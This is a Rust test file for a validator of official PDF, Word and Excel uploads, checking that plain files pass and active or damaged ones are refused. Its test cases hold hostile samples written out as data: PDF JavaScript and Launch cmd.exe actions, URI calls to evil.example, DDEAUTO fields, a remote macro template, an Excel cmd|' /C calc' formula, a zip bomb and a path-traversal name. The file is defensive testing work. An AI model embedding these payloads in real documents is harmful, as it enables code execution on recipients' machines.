//! Official files: what is taken, and what is refused.

#![allow(clippy::expect_used)]

mod common;

use common::{TYPESETTER, form};
use documents::{FormStyle, OfficialKind, OfficialProblem, check_official};
use rstest::rstest;
use std::io::{Cursor, Read, Write};
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

fn docx() -> Vec<u8> {
    TYPESETTER.form_docx(&form("HQ-SH-01"), FormStyle::BLANK).expect("written")
}

/// The parts of an office file with some put in or replaced.
fn with(parts: &[(&str, &str)], base: &[u8]) -> Vec<u8> {
    let mut old = ZipArchive::new(Cursor::new(base)).expect("a zip archive");
    let mut new = ZipWriter::new(Cursor::new(Vec::new()));
    for index in 0..old.len() {
        let mut part = old.by_index(index).expect("a part");
        let name = part.name().to_owned();
        if parts.iter().any(|(other, _)| *other == name) {
            continue;
        }
        let mut content = Vec::new();
        part.read_to_end(&mut content).expect("read");
        new.start_file(name, SimpleFileOptions::default()).expect("started");
        new.write_all(&content).expect("written");
    }
    for (name, content) in parts {
        new.start_file(*name, SimpleFileOptions::default()).expect("started");
        new.write_all(content.as_bytes()).expect("written");
    }
    new.finish().expect("finished").into_inner()
}

fn xlsx() -> Vec<u8> {
    let mut file = ZipWriter::new(Cursor::new(Vec::new()));
    for name in ["[Content_Types].xml", "xl/workbook.xml", "_rels/.rels"] {
        file.start_file(name, SimpleFileOptions::default()).expect("started");
        file.write_all(b"<x/>").expect("written");
    }
    file.finish().expect("finished").into_inner()
}

/// A PDF of one page whose catalogue has this in it.
fn pdf(catalogue: &str) -> Vec<u8> {
    pdf_with(catalogue, "", &[])
}

/// A PDF of one page with this in its catalogue and its page, and with more objects, from number 4 on.
fn pdf_with(catalogue: &str, page: &str, more: &[String]) -> Vec<u8> {
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>"),
    ];
    objects.extend_from_slice(more);
    let mut text = String::from("%PDF-1.4\n");
    let mut places = Vec::new();
    for (index, object) in objects.iter().enumerate() {
        places.push(text.len());
        text.push_str(&format!("{} 0 obj\n{object}\nendobj\n", index + 1));
    }
    let start = text.len();
    let size = places.len() + 1;
    text.push_str(&format!("xref\n0 {size}\n0000000000 65535 f \n"));
    for place in places {
        text.push_str(&format!("{place:010} 00000 n \n"));
    }
    text.push_str(&format!("trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n"));
    text.into_bytes()
}

/// A stream with this in its dictionary.
fn stream(dictionary: &str, content: &str) -> String {
    format!("<< {dictionary} /Length {} >>\nstream\n{content}\nendstream", content.len())
}

/// A stream of one object, number 90.
fn packed(object: &str) -> String {
    stream("/Type /ObjStm /N 1 /First 5", &format!("90 0 {object}"))
}

#[test]
fn the_hall_s_own_files_would_be_taken() {
    let own = TYPESETTER.form_pdf(&form("HQ-SH-01"), FormStyle::SAMPLE).expect("typeset");
    assert_eq!(check_official(&own), Ok(OfficialKind::Pdf));
    assert_eq!(check_official(&docx()), Ok(OfficialKind::Docx));
    assert_eq!(check_official(&xlsx()), Ok(OfficialKind::Xlsx));
    assert_eq!(check_official(&pdf("")), Ok(OfficialKind::Pdf));
    // A link that the reader may click on.
    let link = "/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.gov.cn) >> >>]";
    assert_eq!(check_official(&pdf(link)), Ok(OfficialKind::Pdf));
}

#[rstest]
#[case::script("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")]
#[case::hidden("/OpenAction << /S /J#61vaScript /J#53 (x) >>")]
#[case::names("/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (x) >>] >> >>")]
#[case::launch("/OpenAction << /S /Launch /F (cmd.exe) >>")]
#[case::opens_an_address("/OpenAction << /S /URI /URI (http://evil.example) >>")]
#[case::opens_then_more("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example) >> >>")]
#[case::attached("/Names << /EmbeddedFiles << /Names [] >> >>")]
#[case::on_events("/AA << /WC << /S /URI >> >>")]
#[case::xfa("/AcroForm << /XFA [] >>")]
#[case::two_kinds("/OpenAction <</S/Launch/S/GoTo/F(cmd.exe)>>")]
#[case::two_actions("/OpenAction << /S /Launch /F (cmd.exe) >> /OpenAction [3 0 R /Fit]")]
#[case::two_addresses("/X << /A << /S /URI /URI (https://a.cn) /URI (file:///c:/x) >> >>")]
#[case::on_unpacking("/X << /OnInstantiate 3 0 R >>")]
#[case::script_as_address("/X << /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>")]
#[case::file_as_address("/X << /A << /S /URI /URI (file:///c:/windows/system32/cmd.exe) >> >>")]
#[case::address_in_digits("/X << /A << /S /URI /URI <66696C653A2F2F> >> >>")]
#[case::address_elsewhere("/X << /A << /S /URI /URI 3 0 R >> >>")]
#[case::kind_elsewhere("/X << /A << /S 3 0 R >> >>")]
#[case::unknown_kind("/X << /A << /S /Later >> >>")]
#[case::thread("/X << /S /Thread /F (other.pdf) >>")]
#[case::then_more("/X << /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch >> >> >>")]
#[case::menu("/X << /A << /S /Named /N /Quit >> >>")]
#[case::attachment_note("/X [<< /Subtype /FileAttachment >>]")]
#[case::from_elsewhere("/X << /FS /URL /F (http://evil.example) >>")]
#[case::file_in_it("/X << /Type /EmbeddedFile >>")]
fn a_pdf_that_acts_is_refused(#[case] catalogue: &str) {
    assert_eq!(check_official(&pdf(catalogue)), Err(OfficialProblem::Active));
}

#[rstest]
#[case::content_from_elsewhere("", stream("/F (http://evil.example)", ""))]
#[case::window("", stream("/Type /XObject /Subtype /Form /Ref << >>", ""))]
#[case::attached("", stream("/Type /EmbeddedFile", "x"))]
#[case::packed("", packed("<< /S /Launch /F (cmd.exe) >>"))]
#[case::kind_by_itself("/X << /S 4 0 R /F (cmd.exe) >>", "/Launch".to_owned())]
#[case::opens_an_address("/OpenAction 4 0 R", "<< /S /URI /URI (https://a.cn) >>".to_owned())]
#[case::opens_a_detour("/OpenAction 4 0 R", "5 0 R".to_owned())]
#[case::opens_what_is_packed("/OpenAction 90 0 R", packed("<< /S /URI /URI (https://a.cn) >>"))]
#[case::opens_nothing("/OpenAction 50 0 R", "null".to_owned())]
fn an_object_that_acts_is_refused(#[case] catalogue: &str, #[case] object: String) {
    assert_eq!(check_official(&pdf_with(catalogue, "", &[object])), Err(OfficialProblem::Active));
}

#[rstest]
#[case::arrays(format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)))]
#[case::dictionaries(format!("{}1{}", "<</X ".repeat(10_000), ">>".repeat(10_000)))]
#[case::open_arrays("[".repeat(10_000))]
#[case::packed(packed(&format!("{}{}", "[".repeat(10_000), "]".repeat(10_000))))]
#[case::strings("(".repeat(10_000))]
#[case::encrypted("<< /Encrypt 3 0 R >>".to_owned())]
#[case::keys_without_values("<< /S >>".to_owned())]
#[case::object_in_a_stream(stream("", "9 0 obj << /S /Launch >> endobj"))]
#[case::object_in_a_string("(9 0 obj << /S /Launch >> endobj)".to_owned())]
#[case::packed_in_a_string(stream("/Type /ObjStm /N 2 /First 10", "90 0 91 1 (<< /S /Launch >>)"))]
#[case::packed_in_an_unknown_way(stream("/N 1 /First 5 /Filter /LZWDecode", "90 0 1"))]
fn a_pdf_that_cannot_be_read_to_its_end_is_refused(#[case] object: String) {
    assert_eq!(check_official(&pdf_with("", "", &[object])), Err(OfficialProblem::Damaged));
}

/// Page trees that would take long to follow: one under the other, and each a kid four times.
#[test]
fn page_trees_are_not_followed() {
    let chain: Vec<String> = (5..1005).map(|next| format!("<< /Type /Pages /Kids [{next} 0 R] >>")).collect();
    assert_eq!(check_official(&pdf_with("", "", &chain)), Ok(OfficialKind::Pdf));
    let fourfold: Vec<String> =
        (5..17).map(|next| format!("<< /Type /Pages /Kids [{next} 0 R {next} 0 R {next} 0 R {next} 0 R] >>")).collect();
    assert_eq!(check_official(&pdf_with("", "", &fourfold)), Ok(OfficialKind::Pdf));
}

#[test]
fn what_only_looks_like_an_action_is_taken() {
    let page = "/Trans << /S /R >> /Group << /S /Transparency >> /Annots [<< /Subtype /Link /F 4 /BS << /S /S >> >>]";
    let more = [
        "<< /S /P /A << /O /Layout /Placement /Block >> /K 0 >>".to_owned(),
        "<< /S /GoTo /D [3 0 R /Fit] >>".to_owned(),
        "<< /S /Named /N /NextPage >>".to_owned(),
        "<< /S /URI /URI (MAILTO:a@example.cn) >>".to_owned(),
        stream("/N 3 /Alternate /DeviceRGB", "endobj x ( ["),
        packed("<< /S /Span >>"),
    ];
    let catalogue = "/OpenAction 5 0 R /PageLabels << /Nums [0 << /S /D >>] >>";
    assert_eq!(check_official(&pdf_with(catalogue, page, &more)), Ok(OfficialKind::Pdf));
}

#[rstest]
#[case::macros(&[("word/vbaProject.bin", "x")])]
#[case::embedded(&[("word/embeddings/oleObject1.bin", "x")])]
#[case::template(&[("word/_rels/settings.xml.rels", r#"<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>"#)])]
#[case::entities(&[("word/_rels/settings.xml.rels", "<!DOCTYPE x [<!ENTITY a \"b\">]><Relationships/>")])]
#[case::types(&[("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")])]
#[case::field(&[("word/document.xml", "<w:instrText>DDEAUTO c:\\cmd</w:instrText>")])]
#[case::field_in_pieces(&[("word/document.xml", "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>auto c:\\cmd</w:instrText></w:r></w:p>")])]
#[case::field_in_signs(&[("word/document.xml", "<w:p><w:instrText>&#68;DEAUTO c:\\cmd</w:instrText></w:p>")])]
#[case::field_in_header(&[("word/header1.xml", "<w:hdr><w:fldSimple w:instr=\" INCLUDEPICTURE http://evil.example/x.png \"/></w:hdr>")])]
#[case::field_before_a_quote(&[("word/document.xml", "<w:p><w:fldSimple w:instr='DDE&quot;cmd&quot;'/></w:p>")])]
#[case::field_before_its_end(&[("word/document.xml", "<w:p><w:fldSimple w:instr='dde'/></w:p>")])]
#[case::field_before_a_tab(&[("word/document.xml", "<w:instrText>DDE&#9;cmd</w:instrText>")])]
#[case::linked(&[("word/document.xml", "<w:instrText>LINK Excel.Sheet.8 x</w:instrText>")])]
#[case::database(&[("word/document.xml", "<w:instrText>DATABASE x</w:instrText>")])]
#[case::other_document(&[("word/document.xml", "<w:instrText>RD x.docx</w:instrText>")])]
#[case::numbers_for_signs(&[("word/document.xml", "<w:instrText>QUOTE 68 68 69</w:instrText>")])]
#[case::link_to_a_file(&[("word/document.xml", "<w:instrText>HYPERLINK \"file:///c:/x.exe\"</w:instrText>")])]
#[case::field_around_a_field(&[("word/document.xml", "<w:p><w:fldChar w:fldCharType='begin'/><w:fldChar w:fldCharType='begin'/><w:instrText>REF x</w:instrText><w:fldChar w:fldCharType='end'/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType='end'/></w:p>")])]
#[case::field_in_a_field(&[("word/document.xml", "<w:p><w:fldChar w:fldCharType='begin'/><w:instrText>IF </w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>DDEAUTO c</w:instrText><w:fldChar w:fldCharType='end'/><w:fldChar w:fldCharType='end'/></w:p>")])]
#[case::field_without_an_end(&[("word/document.xml", "<w:p><w:fldChar w:fldCharType='begin'/><w:instrText>DDE</w:instrText><w:instrText>AUTO c</w:instrText></w:p>")])]
#[case::field_of_an_unknown_part(&[("other/part.xml", "<w:instrText>DDEAUTO c</w:instrText>")])]
#[case::outside_in_signs(&[("word/_rels/extra.xml.rels", r#"<Relationships><Relationship Type="http://x/image" Target="http://evil" TargetMode="&#69;xternal"/></Relationships>"#)])]
#[case::link_to_a_share(&[("word/_rels/extra.xml.rels", r#"<Relationships><Relationship Type="http://x/hyperlink" Target="file://evil/x" TargetMode="External"/></Relationships>"#)])]
#[case::embedded_by_relation(&[("word/_rels/extra.xml.rels", r#"<Relationships><Relationship Type="http://x/oleObject" Target="media/x.png"/></Relationships>"#)])]
#[case::other_text_by_relation(&[("word/_rels/extra.xml.rels", r#"<Relationships><Relationship Type="http://x/aFChunk" Target="x.xml"/></Relationships>"#)])]
#[case::unknown_end(&[("word/page.html", "x")])]
#[case::binary(&[("word/x.bin", "x")])]
#[case::types_in_signs(&[("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.ms-word.document.macro&#69;nabled.main+xml\"/></Types>")])]
#[case::types_with_entities(&[("[Content_Types].xml", "<!DOCTYPE x><Types/>")])]
fn an_office_file_that_acts_is_refused(#[case] parts: &[(&str, &str)]) {
    assert_eq!(check_official(&with(parts, &docx())), Err(OfficialProblem::Active));
}

#[rstest]
#[case::connections(&[("xl/connections.xml", "<connections/>")])]
#[case::query(&[("xl/queryTables/queryTable1.xml", "<queryTable/>")])]
#[case::fetching(&[("xl/worksheets/sheet1.xml", "<c><f>WEBSERVICE(&quot;http://evil.example&quot;)</f></c>")])]
#[case::in_pieces(&[("xl/worksheets/sheet1.xml", "<c><f>web service<![CDATA[ (]]>A1)</f></c>")])]
#[case::picture(&[("xl/worksheets/sheet1.xml", "<c><f>_xlfn.IMAGE(A1)</f></c>")])]
#[case::program(&[("xl/worksheets/sheet1.xml", "<c><f>cmd|' /C calc'!A0</f></c>")])]
#[case::registered(&[("xl/workbook.xml", "<x><definedName name=\"a\">REGISTER(1)</definedName></x>")])]
#[case::validation(&[("xl/worksheets/sheet1.xml", "<x><formula1>RTD(1)</formula1></x>")])]
#[case::sheet_of_macros(&[("xl/_rels/workbook.xml.rels", "<x><y Type=\"http://x/xlMacrosheet\" Target=\"sheet.xml\"/></x>")])]
fn a_workbook_that_fetches_is_refused(#[case] parts: &[(&str, &str)]) {
    assert_eq!(check_official(&with(parts, &xlsx())), Err(OfficialProblem::Active));
}

/// A document that opens at a certain page, and one with fields for page numbers.
#[test]
fn what_only_shows_a_place_is_taken() {
    for place in ["/OpenAction [3 0 R /Fit]", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"] {
        assert_eq!(check_official(&pdf(place)), Ok(OfficialKind::Pdf), "{place}");
    }
    let numbered = "<w:p><w:instrText>PAGE</w:instrText><w:fldSimple w:instr=\" NUMPAGES \"/></w:p>";
    assert_eq!(check_official(&with(&[("word/footer9.xml", numbered)], &docx())), Ok(OfficialKind::Docx));
}

#[test]
fn links_to_click_on_are_taken() {
    let rels = r#"<Relationships><Relationship Id="r1" Type="http://x/hyperlink" Target="http://a" TargetMode="External"/></Relationships>"#;
    assert_eq!(check_official(&with(&[("word/_rels/extra.xml.rels", rels)], &docx())), Ok(OfficialKind::Docx));
}

#[test]
fn what_is_no_such_file_is_refused() {
    use OfficialProblem::{Damaged, Empty, TooLarge, WrongKind};
    let own = TYPESETTER.form_pdf(&form("HQ-SH-01"), FormStyle::BLANK).expect("typeset");
    for (bytes, problem) in [
        (Vec::new(), Empty),
        (b"MZ\x90\x00".to_vec(), WrongKind),
        (b"<html>".to_vec(), WrongKind),
        (b"%PDF-1.7\nnothing else".to_vec(), Damaged),
        (b"PK\x03\x04nothing else".to_vec(), Damaged),
        (vec![b'%'; documents::LARGEST_OFFICIAL + 1], TooLarge),
        (own[..own.len() / 3].to_vec(), Damaged),
    ] {
        assert_eq!(check_official(&bytes), Err(problem), "{:?}", bytes.get(..12));
    }
    let without = with(&[("../evil.xml", "x")], &docx());
    assert_eq!(check_official(&without), Err(Damaged));
}

#[test]
fn a_file_that_unpacks_without_end_is_refused() {
    let bomb = " ".repeat(61 << 20);
    assert_eq!(check_official(&with(&[("word/big.xml", &bomb)], &docx())), Err(OfficialProblem::Damaged));
}

#[rstest]
#[case::declared("<?xml version=\"1.0\" encoding=\"utf-7\"?><x/>")]
#[case::wide("<\0x\0/\0>\0")]
#[case::unknown_reference("<w:instrText>PAGE &x;</w:instrText>")]
fn a_part_in_another_encoding_is_refused(#[case] part: &str) {
    for name in ["word/header9.xml", "word/_rels/header9.xml.rels", "[Content_Types].xml"] {
        if part.contains("instrText") && name != "word/header9.xml" {
            continue;
        }
        assert_eq!(check_official(&with(&[(name, part)], &docx())), Err(OfficialProblem::Damaged), "{name}");
    }
}

#[test]
fn another_main_part_is_refused() {
    for (target, taken) in [("xl/workbook.xml", true), ("/xl/workbook.xml", true), ("xl/other.xml", false)] {
        let rels = format!(
            "<Relationships><Relationship Type=\"http://x/officeDocument\" Target=\"{target}\"/></Relationships>"
        );
        let expected = if taken { Ok(OfficialKind::Xlsx) } else { Err(OfficialProblem::WrongKind) };
        assert_eq!(check_official(&with(&[("_rels/.rels", &rels)], &xlsx())), expected, "{target}");
    }
}

/// Two parts of one name, of which each program may read another.
#[test]
fn a_part_that_is_there_twice_is_refused() {
    let mut twice = with(&[("word/part1.xml", "<x/>"), ("word/part2.xml", "<x/>")], &docx());
    let (old, new) = (b"word/part2.xml", b"word/part1.xml");
    for place in 0..twice.len() - old.len() {
        if let Some(name) = twice.get_mut(place..place + old.len())
            && name.starts_with(old)
        {
            name.copy_from_slice(new);
        }
    }
    assert_eq!(check_official(&twice), Err(OfficialProblem::Damaged));
    let other_letters = with(&[("word/Document.xml", "<x/>")], &docx());
    assert_eq!(check_official(&other_letters), Err(OfficialProblem::Damaged));
}
